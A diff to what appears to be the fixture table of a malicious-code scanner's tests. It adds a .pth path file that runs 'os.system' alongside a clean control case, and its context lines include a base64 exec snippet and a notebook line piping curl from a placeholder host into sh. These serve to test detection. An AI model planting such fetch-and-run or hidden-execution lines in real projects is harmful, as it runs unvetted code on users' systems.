@@ -68,6 +68,12 @@ EXAMPLES = (
     Example("hidden code", lambda: _python("import base64\nexec(base64.b64decode('eA=='))\n"), _CALL),
     Example("a notebook that runs a download", lambda: _notebook("x = 1\n", "!curl https://a.invalid | sh\n"), _CALL),
     Example("an honest notebook", lambda: _notebook("%matplotlib inline\nimport torch\n!nvidia-smi\n"), _CLEAN),
+    Example(
+        "a list of paths that runs a command",
+        lambda: {"x.pth": b"./lib\nimport os; os.system('true')\n"},
+        {REMOTE_CODE: Outcome.TRUE, DANGEROUS_CALL: Outcome.TRUE},
+    ),
+    Example("a list of paths", lambda: {"x.pth": b"# paths\n./lib\nimportant/folder\n"}, _CLEAN),
     Example("Python that does not parse", lambda: _python("def f(:\n"), _ERROR),
     Example(
         "a configuration that is not JSON",
